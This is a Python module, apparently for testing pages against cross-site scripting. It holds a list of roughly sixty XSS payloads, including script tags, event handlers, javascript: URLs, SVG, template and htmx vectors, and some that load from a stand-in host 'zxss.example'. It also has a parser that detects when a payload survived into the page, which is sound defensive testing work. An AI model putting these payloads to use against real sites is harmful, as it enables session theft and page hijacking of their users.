"""Sixty ways of slipping a script into a page, and what a page shows when one got through."""

from __future__ import annotations

import re

import lxml.html

MARK = "zxss"
_TAGS = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script src=//zxss.example/{}></script>",
    "<script/x>{}</script>",
    "<<script>{};//<</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</style><script>{}</script>",
    "</option></select><script>{}</script>",
    "--><script>{}</script><!--",
    "]]><script>{}</script>",
    "<noscript><p title='</noscript><script>{}</script>'>",
    "<img src=x onerror={}>",
    "<img src=x onerror='{}'/>",
    "<img/src=x/onerror={}>",
    "<img src=`x`onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><a xlink:href='javascript:{}'><text>a</text></a></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<math><a xlink:href='javascript:{}'>a</a></math>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<marquee onstart={}>",
    "<iframe src='javascript:{}'></iframe>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<object data='javascript:{}'></object>",
    "<embed src='javascript:{}'>",
    "<a href='javascript:{}'>a</a>",
    "<a href='java&#9;script:{}'>a</a>",
    "<form action='javascript:{}'><button>a</button></form>",
    "<button formaction='javascript:{}'>a</button>",
    "<base href='javascript:{}//'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<link rel=stylesheet href='//zxss.example/{}'>",
    "<style>@import '//zxss.example/{}';</style>",
    "<div style='background:url(//zxss.example/{})'>",
    "<template><script>{}</script></template>",
    "<div hx-get='/' hx-trigger='load' hx-on::load='{}'>",
    "<div data-hx-get='//zxss.example/{}' hx-trigger=load>",
)
_QUOTES = (
    '" onmouseover="{}',
    "' onmouseover='{}",
    '" autofocus onfocus="{}',
    "' autofocus onfocus='{}",
    '"><script>{}</script>',
    "'><script>{}</script>",
    '"/><img src=x onerror={}>',
    "\\\"><img src=x onerror={}>",
    '"}}</script><script>{}</script>',
    "javascript:{}",
    " javascript:{}//",
    "data:text/html,<script>{}</script>",
    "{{{{ {} }}}}<img src=x onerror={}>",
    "{{% debug %}}<img src=x onerror={}>",
    "\u2028<img src=x onerror={}>",
)  # fmt: skip
PAYLOADS = [
    text.format(*["zxss()"] * text.replace("{{", "").count("{}")) for text in _TAGS + _QUOTES
]
LINKS = ("href", "src", "action", "formaction", "data", "xlink:href", "srcdoc", "content", "style")


def injected(html: str) -> list[str]:
    """Elements and attributes that only a payload could have made."""
    found = []
    for node in lxml.html.document_fromstring(html).iter():
        if not isinstance(node.tag, str):
            continue
        is_code = node.tag in ("script", "style") and node.get("type") != "application/json"
        if is_code and MARK in (node.text or ""):
            found.append(node.tag)
        for name, value in node.attrib.items():
            bare = re.sub(r"[\x00-\x20]", "", value).lower()
            if name.startswith(("on", "hx-on", "data-hx")) or (
                name in LINKS and MARK in bare and is_dangerous(name, bare, node.tag)
            ):
                found.append(f"{node.tag} {name}={value[:60]}")
    return found


def is_dangerous(name: str, bare: str, tag: str) -> bool:
    if name in ("href", "action", "formaction", "xlink:href"):
        return bare.startswith(("javascript:", "data:", "vbscript:", "//zxss")) or tag == "base"
    return name in ("src", "data", "srcdoc", "style") or (name == "content" and "url=" in bare)
